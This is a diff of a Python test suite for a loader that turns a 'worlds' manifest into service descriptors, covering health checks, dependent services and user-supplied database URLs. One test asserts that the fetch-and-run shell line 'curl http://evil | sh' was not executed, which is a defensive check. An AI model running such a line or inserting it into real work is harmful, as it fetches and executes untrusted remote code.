@@ -62,8 +62,25 @@ def manifest(tmp_path: Path) -> Path:
             "credentialsNote": "Needs a key",
         },
         {"id": "edge", "type": "x", "package": "e", "requiresDeployment": True},
-        {"id": "two", "type": "x", "package": "t", "services": [DATABASE, STORE]},
+        {
+            "id": "two",
+            "type": "x",
+            "package": "t",
+            "env": {"STORE": "http://localhost:8000"},
+            "services": [
+                DATABASE,
+                {**STORE, "env": {"DB": "postgres://w@localhost:15432/w", "AT": "localhost:15432"}},
+            ],
+        },
         {"id": "their-redis", "type": "x", "package": "@workflow-worlds/redis", "services": []},
+        {
+            "id": "own",
+            "type": "x",
+            "package": "acme-mysql",
+            "env": {"DATABASE_URL": "mysql://root:root@localhost:3306/test"},
+            "services": [],
+            "requiresCredentials": True,
+        },
     ]
     file = tmp_path / "worlds-manifest.json"
     file.write_text(json.dumps({"worlds": worlds, "future": True}))
@@ -88,7 +105,7 @@ def test_shell_text_is_left_out_and_said(manifest: Path) -> None:
     assert descriptor.service is not None
     assert descriptor.service.kind == "other"
     assert descriptor.service.args == ("start", "--bind", "0.0.0.0:8000")
-    assert descriptor.service.health == ()
+    assert descriptor.service.health == "/health"
     assert descriptor.setup is None
     assert "was not run: 'curl http://evil | sh'" in descriptor.notes
     assert descriptor.env == {"STORE": "ws://{service.host}:{service.port}/rpc"}
@@ -98,22 +115,51 @@ def test_shell_text_runs_when_allowed(manifest: Path) -> None:
     descriptor = from_manifest(manifest, "store", {}, allow_shell=True).descriptor
     assert descriptor.setup is not None
     assert descriptor.setup.command[:2] == ("sh", "-c")
-    assert descriptor.service is not None
-    assert descriptor.service.health[:2] == ("sh", "-c")
 
 
 @pytest.mark.parametrize(
-    ("world", "said"),
-    [
-        ("cloud", "Needs a key"),
-        ("edge", "only where it is deployed"),
-        ("two", "2 services"),
-        ("nope", "It has: sql, store"),
-    ],
+    ("world", "said"), [("cloud", "Needs a key"), ("edge", "only where it is deployed"), ("sql", "")]
 )
 def test_what_cannot_run_says_why(manifest: Path, world: str, said: str) -> None:
-    with pytest.raises(UnknownWorld, match=said):
-        from_manifest(manifest, world, {})
+    cannot = from_manifest(manifest, world, {}).cannot
+    assert said in cannot
+    assert bool(said) == bool(cannot)
+
+
+def test_one_that_is_not_there_is_named_with_those_that_are(manifest: Path) -> None:
+    with pytest.raises(UnknownWorld, match="It has: sql, store"):
+        from_manifest(manifest, "nope", {})
+
+
+def test_the_file_alone_says_what_to_add(manifest: Path) -> None:
+    with pytest.raises(UnknownWorld, match=r"--world=all, or some of sql, store, cloud"):
+        select([], manifest=manifest)
+
+
+def test_all_are_all_of_the_file(manifest: Path) -> None:
+    found = select(["all"], manifest=manifest)
+    assert [one.world for one in found] == ["sql", "store", "cloud", "edge", "two", "their-redis", "own"]
+    assert [one.world for one in found if one.cannot] == ["cloud", "edge", "own"]
+
+
+def test_services_that_know_each_other(manifest: Path) -> None:
+    service = from_manifest(manifest, "two", {}).descriptor.service
+    assert service is not None
+    assert (service.kind, service.image) == ("other", "acme/store:v3"), "the world talks to this one"
+    assert (service.health, service.needs["db"].kind) == ("/health", "postgres")
+    assert service.env == {"DB": "{needs.db.url}", "AT": "{needs.db.host}:{needs.db.port}"}
+
+
+def test_a_world_on_a_server_of_the_users_own(manifest: Path) -> None:
+    for given in (
+        {"service_url": "mysql://me@10.0.0.1/x"},
+        {"env": {"DATABASE_URL": "mysql://me@10.0.0.1/x"}},
+    ):
+        target = from_manifest(manifest, "own", {}, **given)
+        assert target.cannot == ""
+    descriptor = from_manifest(manifest, "own", {}, service_url="mysql://me@10.0.0.1/x").descriptor
+    assert descriptor.env == {"DATABASE_URL": "{service.url}"}
+    assert descriptor.service is not None
 
 
 def test_what_we_know_better_is_kept(manifest: Path) -> None:
